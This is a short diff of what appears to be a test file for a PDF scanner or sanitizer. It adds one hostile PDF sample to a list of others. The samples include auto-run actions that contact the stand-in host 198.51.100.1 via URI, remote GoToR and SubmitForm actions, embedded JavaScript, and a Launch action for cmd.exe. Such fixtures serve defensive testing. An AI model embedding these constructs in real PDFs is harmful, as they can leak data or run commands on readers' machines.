@@ -52,6 +52,7 @@ def locked(user: str, owner: str, revision: int) -> bytes:
         pdf_with(catalog=b"/Names<</JavaScript<</Names[(a)" + JAVASCRIPT + b"]>>>>"),
         pdf_with(b"<</S/Rendition/JS 5 0 R>>", stream(b"app.alert(1)")),
         pdf_with(page=b"/AA<</O<</S/URI/URI(http://198.51.100.1)>>>>"),
+        pdf_with(catalog=b"/OpenAction<</S/GoToR/F(//198.51.100.1/a.pdf)/D[0/Fit]>>"),
         pdf_with(catalog=b"/OpenAction<</S/URI/URI(http://198.51.100.1)>>"),
         pdf_with(page=b"/Annots[<</Subtype/Link/Rect[0 0 9 9]/A<</S/Launch/F(cmd.exe)>>>>]"),
         pdf_with(b"<</S/SubmitForm/F(http://198.51.100.1)>>"),
